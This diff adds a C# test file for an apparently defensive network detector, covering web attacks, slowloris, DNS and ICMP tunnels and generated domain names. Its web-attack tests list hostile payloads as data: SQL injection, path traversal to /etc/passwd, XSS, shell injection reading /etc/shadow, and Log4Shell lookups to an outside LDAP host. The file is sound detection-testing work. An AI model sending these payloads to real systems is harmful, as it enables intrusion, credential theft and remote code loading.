@@ -1,0 +1,253 @@
+using NetHawk.Core.Detectors.Dga;
+using NetHawk.Core.Detectors.DnsTunnel;
+using NetHawk.Core.Detectors.SlowDos;
+using NetHawk.Core.Detectors.WebAttack;
+using NetHawk.Core.Flows;
+using NetHawk.Core.Packets;
+using NetHawk.Core.Peek;
+using NetHawk.Core.Verdicts;
+
+namespace NetHawk.Tests.Detectors;
+
+public class ApplicationDetectorTests
+{
+    private const string Client = "10.0.0.7";
+    private const string Server = "203.0.113.80";
+
+    private static HttpRequest Get(string target, string agent = "Mozilla/5.0", bool complete = true) => new("GET", target, "www.example", agent, complete, false, -1, "");
+
+    private static Events Ask(Events run, string name, ushort type = 1, byte code = 0, int bytes = 80, string server = "9.9.9.9")
+    {
+        var flow = run.Flow(Client, server, 53, IpProtocol.Udp);
+        flow.Application = AppProtocol.Dns;
+        flow.Peek = new DnsMessage(1, false, name, type, 0, 0, 40 + name.Length, []);
+        run.Send(flow, FlowEventKind.Application);
+        flow.Peek = new DnsMessage(1, true, name, type, code, 1, bytes, []) { FromResponder = true };
+        return run.Send(flow, FlowEventKind.Application);
+    }
+
+    [Theory]
+    [InlineData("/item?id=1%27%20OR%20%271%27=%271")]
+    [InlineData("/item?id=1+union/**/select+1,2,user()--")]
+    [InlineData("/item?id=1%2527%2520and%25201=1%23")]
+    [InlineData("/item?id=1;waitfor delay '0:0:5'--")]
+    [InlineData("/item?id=sleep(5)")]
+    [InlineData("/get?f=..%252f..%252f..%252fetc%252fpasswd")]
+    [InlineData("/get?f=..%c0%af..%c0%af/boot.ini")]
+    [InlineData("/get?page=php://filter/convert.base64-encode/resource=index")]
+    [InlineData("/q?s=%3Cscript%3Ealert(1)%3C/script%3E")]
+    [InlineData("/q?s=<img src=x onerror=alert(1)>")]
+    [InlineData("/ping?host=127.0.0.1;cat /etc/shadow")]
+    [InlineData("/ping?host=`id`")]
+    [InlineData("/?x=${jndi:ldap://198.51.100.1/a}")]
+    [InlineData("/?x=$%7B%24%7Blower:j%7Dndi:ldap://x/a%7D")]
+    [InlineData("/.git/config")]
+    [InlineData("/backup/.env")]
+    public void Attack_patterns_are_found_through_encodings(string target)
+    {
+        var run = new Events(new WebAttackDetector(Events.Context()));
+        run.Session(Client, Server, 80, application: AppProtocol.Http, peeks: Get(target));
+        Assert.Equal(ThreatClass.WebAttack, Assert.Single(run.Found).Class);
+        Assert.False(run.Found[0].Decisive);
+    }
+
+    [Theory]
+    [InlineData("/search?q=credit+union+select+account+type")]
+    [InlineData("/search?q=o%27reilly+and+sons")]
+    [InlineData("/search?q=rock+%27n%27+roll")]
+    [InlineData("/recaptcha/api.js?onload=onloadCallback&render=explicit")]
+    [InlineData("/ad?u=https%3A%2F%2Fwww.example%2Fpage%3Fa%3D1%26b%3D2&r=%7B%22k%22%3A%5B1%2C2%5D%7D")]
+    [InlineData("/wiki/C++?action=edit#section")]
+    [InlineData("/api/v1/items?filter=(price>10)and(name='x')&$orderby=id")]
+    [InlineData("/img/a..b/photo(1).jpg")]
+    [InlineData("/select/from/catalogue?sleep=8h&order=by")]
+    [InlineData("/blog/how-to-use-cat-and-ls;jsessionid=12AB")]
+    public void Honest_requests_that_look_odd_are_left_alone(string target)
+    {
+        var run = new Events(new WebAttackDetector(Events.Context()));
+        run.Session(Client, Server, 80, application: AppProtocol.Http, peeks: Get(target));
+        Assert.Empty(run.Found);
+    }
+
+    [Fact]
+    public void Several_different_attack_requests_are_decisive_and_repetition_is_not()
+    {
+        var run = new Events(new WebAttackDetector(Events.Context()));
+        for (int i = 0; i < 20; i++) run.Session(Client, Server, 80, application: AppProtocol.Http, peeks: Get("/?id=1' or '1'='1"));
+        Assert.Single(run.Found);
+        for (int i = 0; i < 3; i++) run.Session(Client, Server, 80, application: AppProtocol.Http, peeks: Get($"/?id={i}' or '{i}'='{i}"));
+        Assert.True(run.Found[^1].Decisive);
+    }
+
+    [Fact]
+    public void Twenty_different_misses_in_a_burst_are_probing_and_a_crawlers_dead_links_are_not()
+    {
+        var miss = new HttpResponse(404, "nginx", 10) { FromResponder = true };
+        var hit = new HttpResponse(200, "nginx", 10) { FromResponder = true };
+        var run = new Events(new WebAttackDetector(Events.Context()));
+        for (int i = 0; i < 19; i++) run.Session(Client, Server, 80, 0.1, application: AppProtocol.Http, peeks: [Get($"/x{i}"), miss]);
+        Assert.Empty(run.Found);
+        run.Session(Client, Server, 80, 0.1, application: AppProtocol.Http, peeks: [Get("/x20"), miss]);
+        Assert.Single(run.Found);
+
+        run = new Events(new WebAttackDetector(Events.Context()));
+        for (int i = 0; i < 400; i++) run.Session(Client, Server, 80, 0.1, application: AppProtocol.Http, peeks: [Get($"/y{i}"), i % 3 == 0 ? miss : hit]);
+        for (int i = 0; i < 400; i++) run.Session("10.0.0.8", Server, 80, 0.1, application: AppProtocol.Http, peeks: [Get("/favicon.ico"), miss]);
+        Assert.Empty(run.Found);
+    }
+
+    private static FlowEvent Hold(Events run, string source, HttpRequest? request)
+    {
+        var flow = run.Flow(source, Server, 80);
+        flow.Handshake = HandshakeState.Proven;
+        run.Send(flow, FlowEventKind.Established);
+        flow.Forward.DataPackets = 1;
+        flow.Forward.PayloadBytes = 200;
+        flow.Peek = request;
+        if (request is not null) run.Send(flow, FlowEventKind.Application);
+        return flow;
+    }
+
+    [Fact]
+    public void Five_headers_unfinished_for_ten_seconds_are_slowloris_and_four_are_not()
+    {
+        var run = new Events(new SlowDosDetector(Events.Context()));
+        for (int i = 0; i < 4; i++) Hold(run, Client, Get("/", complete: false));
+        run.Wait(30);
+        Assert.Empty(run.Found);
+        Hold(run, Client, Get("/", complete: false));
+        run.Wait(9);
+        Assert.Empty(run.Found);
+        run.Wait(3);
+        Assert.Equal(ThreatClass.SlowDos, Assert.Single(run.Found).Class);
+    }
+
+    [Fact]
+    public void Long_polling_uploads_and_answered_connections_are_patient_but_honest()
+    {
+        var run = new Events(new SlowDosDetector(Events.Context()));
+        for (int i = 0; i < 100; i++) Hold(run, Client, Get("/poll"));
+        for (int i = 0; i < 30; i++)
+        {
+            var upload = Hold(run, "10.0.0.8", Get("/") with { Method = "POST", ContentLength = 50_000_000 });
+            upload.Forward.PayloadBytes = 5_000_000;
+            upload.Forward.DataPackets = 4000;
+            run.Send(upload, FlowEventKind.Checkpoint);
+        }
+
+        for (int i = 0; i < 30; i++)
+        {
+            var answered = Hold(run, "10.0.0.9", Get("/", complete: false));
+            answered.Peek = new HttpResponse(200, "", 5) { FromResponder = true };
+            run.Send(answered, FlowEventKind.Application);
+        }
+
+        run.Wait(60);
+        Assert.Empty(run.Found);
+    }
+
+    [Fact]
+    public void Slowloris_from_many_sources_is_one_threat_without_a_source()
+    {
+        var run = new Events(new SlowDosDetector(Events.Context()));
+        for (int i = 1; i <= 100; i++)
+            for (int again = 0; again < 7; again++) Hold(run, $"198.51.100.{i}", Get("/", complete: false));
+        run.Wait(12);
+        var found = Assert.Single(run.Found);
+        Assert.Null(found.Source);
+        Assert.Equal(100, found.SourceCount);
+    }
+
+    [Fact]
+    public void Tunnels_in_dns_are_found_by_types_or_by_long_dense_names()
+    {
+        var run = new Events(new DnsTunnelDetector(Events.Context()));
+        for (int i = 0; i < 25; i++) Ask(run, $"{i:x4}a7c93fe0b1d24.t.example", type: 16);
+        Assert.Single(run.Found);
+
+        run = new Events(new DnsTunnelDetector(Events.Context()));
+        var random = new Random(3);
+        for (int i = 0; i < 80; i++) Ask(run, string.Concat(Enumerable.Range(0, 40).Select(_ => "abcdefghijklmnopqrstuvwxyz234567"[random.Next(32)])) + ".example.com");
+        Assert.Single(run.Found);
+    }
+
+    [Fact]
+    public void A_server_that_resolves_other_names_is_never_to_blame()
+    {
+        var run = new Events(new DnsTunnelDetector(Events.Context()));
+        Ask(run, "www.example.org");
+        for (int i = 0; i < 200; i++) Ask(run, $"{i:x4}a7c93fe0b1d24fa7c93fe0b1d24.t.example.com", type: 16);
+        Assert.All(run.Found, e => Assert.NotNull(e.WatchOnly));
+        Assert.NotEmpty(run.Found);
+    }
+
+    [Fact]
+    public void Block_lists_mail_checks_and_content_networks_are_no_tunnels()
+    {
+        var run = new Events(new DnsTunnelDetector(Events.Context()));
+        for (int i = 0; i < 500; i++)
+        {
+            Ask(run, $"{i % 250}.{i % 7}.51.198.zen.blocklist.example");
+            Ask(run, $"customer{i}.example{i}.com", type: 16);
+            Ask(run, $"{i}.51.100.198.in-addr.arpa", type: 12);
+            Ask(run, $"r{i % 40}---sn-h0jeen7{i % 9}.video.example");
+        }
+
+        Assert.Empty(run.Found);
+    }
+
+    [Fact]
+    public void Echo_whose_replies_do_not_repeat_the_request_is_a_tunnel_and_ping_is_not()
+    {
+        static FlowEvent Echo(Events run, int count, Func<int, int> up, Func<int, int> down)
+        {
+            var flow = run.Flow(Client, Server, 0, IpProtocol.Icmp);
+            flow.IcmpType = 8;
+            for (int i = 0; i < count; i++)
+            {
+                flow.Forward.Packets++;
+                flow.Forward.PayloadBytes += up(i);
+                flow.Backward.Packets++;
+                flow.Backward.PayloadBytes += down(i);
+                if (flow.EarlyCount > 14) continue;
+                flow.Early[flow.EarlyCount++].SignedPayload = (short)up(i);
+                flow.Early[flow.EarlyCount++].SignedPayload = (short)-down(i);
+            }
+
+            flow.Forward.Packets--;
+            return flow;
+        }
+
+        var run = new Events(new IcmpTunnelDetector(Events.Context()));
+        run.Send(Echo(run, 64, _ => 56, _ => 56), FlowEventKind.Checkpoint).Send(Echo(run, 500, _ => 1400, _ => 1400), FlowEventKind.Checkpoint);
+        Assert.Empty(run.Found);
+        run.Send(Echo(run, 32, i => 50 + i * 31 % 400, i => 50 + i * 17 % 900), FlowEventKind.Checkpoint);
+        Assert.Equal(ThreatClass.DnsTunnel, Assert.Single(run.Found).Class);
+    }
+
+    [Fact]
+    public void Generated_names_that_do_not_exist_are_found()
+    {
+        string[] names = ["xqzvkjwpt", "bqpwxkzrt", "jxk4q9zvt", "qwzrtpxkv", "vbn3kxzqw", "zxjqkwvpt", "kqxz8vwrt", "pqzxwvkjt", "wxqzkvbpt", "tqxkzjvwp"];
+        var run = new Events(new DgaDetector(Events.Context()));
+        for (int i = 0; i < 9; i++) Ask(run, names[i] + ".com", code: 3);
+        Assert.Empty(run.Found);
+        Ask(run, names[9] + ".net", code: 3);
+        Assert.Equal(ThreatClass.Malware, Assert.Single(run.Found).Class);
+    }
+
+    [Fact]
+    public void Typing_errors_search_suffixes_and_reverse_look_ups_are_not_generated()
+    {
+        var run = new Events(new DgaDetector(Events.Context()));
+        foreach (string name in new[] { "gogle", "facebok", "wikipdia", "amazn", "newyorktime", "weathr", "linkdin", "yutube", "twiter", "instagran", "netflx", "spotfy" })
+            Ask(run, name + ".com", code: 3);
+        for (int i = 0; i < 100; i++)
+        {
+            Ask(run, $"printer.corp{i}.example", code: 3);
+            Ask(run, $"{i}.2.0.192.in-addr.arpa", type: 12, code: 3);
+        }
+
+        Assert.Empty(run.Found);
+    }
+}
